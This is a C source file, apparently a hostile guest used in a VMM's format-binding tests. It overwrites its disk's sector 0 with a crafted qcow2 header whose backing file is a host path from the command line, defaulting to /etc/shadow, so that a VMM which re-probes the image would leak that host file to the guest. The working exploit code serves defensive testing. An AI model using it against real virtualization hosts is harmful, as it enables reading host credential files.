/*
 * A hostile guest for the format-binding tests: prints the first bytes of its disk's sector 0, then writes
 * a qcow2 header there whose backing file is the path given on the command line after "plant=", flushes,
 * and exits (status 0x27). If the VMM let that header stand and probed the image again at the next boot,
 * that boot would read the host file through the disk.
 */
#include "kit.h"
#include "virtio.h"

static struct virtq_desc desc[VQ_SIZE] __attribute__((aligned(16)));
static struct virtq_avail avail __attribute__((aligned(4)));
static struct virtq_used used __attribute__((aligned(8)));
static struct req_hdr hdr;
static uint8_t status;
static uint8_t sector[512] __attribute__((aligned(512)));
static struct virtio_dev dev;

static uint8_t request(uint32_t type, uint64_t lba, void *buf, uint32_t len, int device_writes) {
	hdr.type = type;
	hdr.reserved = 0;
	hdr.sector = lba;
	status = 0xff;
	desc[0].addr = (uint32_t)&hdr;
	desc[0].len = sizeof(hdr);
	desc[0].flags = VIRTQ_DESC_F_NEXT;
	int last = 1;
	if (len > 0) {
		desc[0].next = 1;
		desc[1].addr = (uint32_t)buf;
		desc[1].len = len;
		desc[1].flags = VIRTQ_DESC_F_NEXT | (device_writes ? VIRTQ_DESC_F_WRITE : 0);
		desc[1].next = 2;
		last = 2;
	} else {
		desc[0].next = 1;
	}
	desc[last].addr = (uint32_t)&status;
	desc[last].len = 1;
	desc[last].flags = VIRTQ_DESC_F_WRITE;
	virtio_submit(&dev, 0);
	virtio_kick(&dev);
	virtio_wait(&dev, 1, 50000000);
	return status;
}

static void put32(uint8_t *p, uint32_t v) {
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static void put64(uint8_t *p, uint64_t v) {
	put32(p, (uint32_t)(v >> 32));
	put32(p + 4, (uint32_t)v);
}

static const char *plant_target(const struct hvm_start_info *info) {
	const char *c = (const char *)(uintptr_t)(uint32_t)info->cmdline_paddr;
	if (info->cmdline_paddr == 0) return "/etc/shadow";
	for (; *c != 0; c++) {
		if (c[0] == 'p' && c[1] == 'l' && c[2] == 'a' && c[3] == 'n' && c[4] == 't' && c[5] == '=') return c + 6;
	}
	return "/etc/shadow";
}

uint32_t kmain(const struct hvm_start_info *info) {
	uart_init();
	if (!virtio_find(0x1042, 0, &dev)) {
		printf("blk_plant: no disk\n");
		return 0x27;
	}
	virtio_init(&dev, 1ull << BLK_F_FLUSH, desc, &avail, &used);
	uint8_t st = request(T_IN, 0, sector, 512, 1);
	char text[33];
	for (int i = 0; i < 32; i++) text[i] = sector[i] >= 0x20 && sector[i] < 0x7f ? (char)sector[i] : '.';
	text[32] = 0;
	printf("sector0: status %u '%s'\n", st, text);

	/* a qcow2 v2 header: 64 KiB clusters, 1 MiB, L1 at 64 KiB and refcounts at 128 KiB (zeros: nothing
	 * allocated, so every read falls through to the backing file) */
	const char *target = plant_target(info);
	uint32_t n = 0;
	while (target[n] != 0 && target[n] != ' ' && n < 400) n++;
	memset(sector, 0, sizeof(sector));
	put32(sector + 0, 0x514649fb);
	put32(sector + 4, 2);
	put64(sector + 8, 72);
	put32(sector + 16, n);
	put32(sector + 20, 16);
	put64(sector + 24, 1u << 20);
	put32(sector + 36, 1);
	put64(sector + 40, 0x10000);
	put64(sector + 48, 0x20000);
	put32(sector + 56, 1);
	memcpy(sector + 72, target, n);
	st = request(T_OUT, 0, sector, 512, 0);
	printf("plant: status %u\n", st);
	request(T_FLUSH, 0, 0, 0, 0);
	return 0x27;
}
